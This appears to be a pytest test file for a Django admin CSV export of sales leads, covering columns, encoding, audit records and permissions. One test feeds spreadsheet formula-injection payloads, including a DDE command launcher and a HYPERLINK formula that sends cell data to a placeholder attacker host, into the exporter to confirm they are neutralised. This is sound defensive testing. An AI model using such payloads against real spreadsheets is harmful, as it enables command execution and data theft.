import csv
import io
from datetime import date, datetime

import pytest
from django.urls import reverse

from leads import export as module
from leads.export import COLUMNS, safe
from leads.facts import catch_up
from leads.models import ExportRecord, Stage
from leads.selection import Selection
from tests.factories import NOW, make_article, make_user
from tests.leads.factories import make_lead
from tests.signed_in import sign_in  # noqa: F401

pytestmark = pytest.mark.django_db

PERIOD = {"from": "2026-05-01", "to": "2026-05-31"}


def download(client, **chosen):
    catch_up()
    return client.post(reverse("admin:leads_leadfacts_export"), PERIOD | chosen)


def rows(answer):
    return list(csv.DictReader(io.StringIO(b"".join(answer.streaming_content).decode())))


def test_each_lead_is_a_row_with_what_is_known(sign_in, client):  # noqa: F811
    user = sign_in("owner")
    article = make_article("On backups")
    query = {"utm_campaign": "spring", "utm_source": "news"}
    lead = make_lead(
        article=article.slug,
        message="Two\nlines, and “quotes”",
        landing_query=query,
        referrer="https://a.example/",
        consent_text="Send me news.",
    )
    lead.move("won", by=user, at=NOW, value=1200, currency="EUR")
    make_lead(at=datetime(2026, 4, 1, tzinfo=NOW.tzinfo))
    (row,) = rows(download(client))
    assert list(row) == COLUMNS
    assert {name: value for name, value in row.items() if value} == {
        "reference": lead.reference,
        "received": "2026-05-04 10:30",
        "name": "Ada Quinn",
        "e-mail": lead.email,
        "message": "Two\nlines, and “quotes”",
        "stage": "Won",
        "expert": str(user),
        "worth": "1200.00",
        "currency": "EUR",
        "article": "On backups",
        "category": article.category.name,
        "campaign": "spring",
        "campaign source": "news",
        "referrer": "https://a.example/",
        "answered after (working minutes)": "0",
        "consent": "Send me news.",
        "consented": "2026-05-04 10:30",
    }


@pytest.mark.parametrize(
    "typed",
    [
        *("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "%0A=1", "|x"),
        '=HYPERLINK("evil.example?"&A1,"click")',
    ],
)
def test_no_cell_is_a_formula(typed, sign_in, client):  # noqa: F811
    assert safe(typed) == f"'{typed}"
    sign_in("owner")
    make_lead(name=typed, message=typed, company=typed, landing_query={"utm_campaign": typed})
    (row,) = rows(download(client))
    assert {row[name] for name in ["name", "company", "message", "campaign"]} == {f"'{typed}"}


def test_plain_cells_stay_as_they_are():
    assert [safe(cell) for cell in ["Ada", "a=b", "", "1.50", "Müller – Söhne"]] == [
        *("Ada", "a=b", "", "1.50", "Müller – Söhne"),
    ]


@pytest.mark.parametrize(
    ("chosen", "begins"), [({}, b"reference,"), ({"for_excel": "on"}, b"\xef\xbb\xbfreference,")]
)
def test_excel_is_told_that_it_is_utf_8(chosen, begins, sign_in, client):  # noqa: F811
    sign_in("owner")
    answer = download(client, **chosen)
    assert b"".join(answer.streaming_content).startswith(begins)
    assert answer["Content-Disposition"] == 'attachment; filename="leads-2026-05-01-to-2026-05-31.csv"'
    assert "no-store" in answer["Cache-Control"]


def test_it_is_recorded_with_the_rows_that_left(sign_in, client):  # noqa: F811
    user = sign_in("owner")
    make_lead()
    b"".join(download(client, reached="0").streaming_content)
    (record,) = ExportRecord.objects.all()
    assert (record.by, record.selection, record.rows) == (user, "from=2026-05-01&to=2026-05-31", 1)


def test_one_that_was_cut_off_is_recorded_as_far_as_it_came(monkeypatch):
    monkeypatch.setattr(module, "BATCH", 2)
    for _ in range(5):
        make_lead()
    catch_up()
    lines = module.export(Selection(date(2026, 5, 1), date(2026, 5, 31)), by=make_user(), at=NOW)
    for _ in range(3):  # the heading and two batches; then the browser goes away
        next(lines)
    lines.close()
    assert ExportRecord.objects.get().rows == 4


def test_a_row_costs_no_query_also_at_a_stage_of_our_own(django_assert_num_queries):
    step, person = Stage.objects.create(slug="proposal", name="Proposal", kind="qualified"), make_user()
    for _ in range(3):
        make_lead().move(step.slug, by=person, at=NOW)
    catch_up()
    with django_assert_num_queries(5):  # the record twice, the stages, and two pieces
        text = "".join(module.export(Selection(date(2026, 5, 1), date(2026, 5, 31)), by=person, at=NOW))
    assert [row["stage"] for row in csv.DictReader(io.StringIO(text))] == ["Proposal"] * 3


def test_pieces_put_together_are_all_leads_once_the_newest_first(sign_in, client, monkeypatch):  # noqa: F811
    monkeypatch.setattr(module, "BATCH", 2)
    made = [make_lead(at=datetime(2026, 5, day, tzinfo=NOW.tzinfo)) for day in [3, 3, 3, 9, 9, 20, 21]]
    sign_in("owner")
    assert [row["reference"] for row in rows(download(client))] == [lead.reference for lead in made[::-1]]


@pytest.mark.parametrize("role", ["sales", "sales lead", "editor", "author"])
def test_only_whoever_has_the_permission_takes_leads_out(role, sign_in, client):  # noqa: F811
    sign_in(role)
    make_lead()
    assert download(client).status_code == 403
    assert client.get(reverse("admin:leads_leadfacts_export")).status_code in {403, 405}
    assert ExportRecord.objects.count() == 0


def test_the_download_is_what_the_list_shows(sign_in, client):  # noqa: F811
    sign_in("owner")
    expert = make_user()
    for number in range(3):
        make_lead(expert=expert if number else None)
    catch_up()
    chosen = PERIOD | {"expert": str(expert.pk)}
    page = client.get(reverse("admin:leads_leadfacts_rows"), chosen).context
    assert page["selection"].first == date(2026, 5, 1)
    sent = dict(page["selection"].pairs())
    assert len(rows(download(client, **sent))) == page["total"]["leads"] == 2
